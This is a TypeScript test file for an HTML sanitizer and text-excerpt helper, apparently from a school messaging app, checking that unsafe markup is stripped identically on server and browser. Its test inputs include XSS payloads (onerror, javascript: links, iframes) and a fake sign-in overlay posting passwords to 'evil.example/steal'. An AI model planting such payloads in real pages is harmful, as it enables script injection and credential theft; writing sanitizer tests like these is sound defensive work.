import { describe, expect, it } from 'vitest';
import { excerptOf } from './excerpt.ts';
import { textOnServer } from './excerpt-server.ts';
import { sanitizeHtml } from './sanitize.ts';
import { sanitizeOnServer } from './sanitize-server.ts';

/** The same markup written two ways (quotes, void tags) reads back the same from a DOM. */
const normalized = (html: string) => {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div.innerHTML;
};

const payloads = [
  '<p>Dear parents, <b>welcome</b> to <em>the new session</em>.</p><ul><li>One</li><li>Two</li></ul>',
  '<p><a href="https://school.example/notice">the notice</a> and <img src="https://api.example/img.jpg" alt="Assembly"></p>',
  '<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)></svg>',
  '<a href="javascript:alert(1)">click</a><a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  // The takeover seen in the wild: a full-screen overlay with a password form posting elsewhere.
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff"><h2>Your session expired. Please sign in again.</h2><form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pass"><button>Sign in</button></form></div>',
  '<p style="color:red" class="x" id="main" onclick="x()">styled</p><style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
];

describe('sanitizeHtml', () => {
  it.each(payloads)('keeps formatting and drops anything that runs, restyles, overlays or collects input: %s', (html) => {
    const clean = sanitizeHtml(html);
    expect(clean).not.toMatch(/<script|onerror|onload|onclick|javascript:|data:text|<iframe|<object|<embed|<form|<input|<button|<style|<link|style=|class=|id=/i);
  });

  it.each(payloads)('renders the same on the server as in the browser: %s', (html) => {
    expect(normalized(sanitizeOnServer(html))).toBe(normalized(sanitizeHtml(html)));
  });

  it('keeps what a message needs', () => {
    expect(normalized(sanitizeHtml(payloads[1]!))).toBe('<p><a href="https://school.example/notice">the notice</a> and <img src="https://api.example/img.jpg" alt="Assembly"></p>');
  });
});

describe('excerptOf', () => {
  it('reads the same text on the server as in the browser', () => {
    const html = '<p>Dear&nbsp;parents &amp; students,</p><script>x()</script><p>the <b>session</b> begins.</p><style>p{}</style>';
    expect(excerptOf(html)).toBe('Dear parents & students, the session begins.');
    expect(textOnServer(html, 'script, style').replace(/\s+/g, ' ').trim()).toBe('Dear parents & students,the session begins.');
  });
});
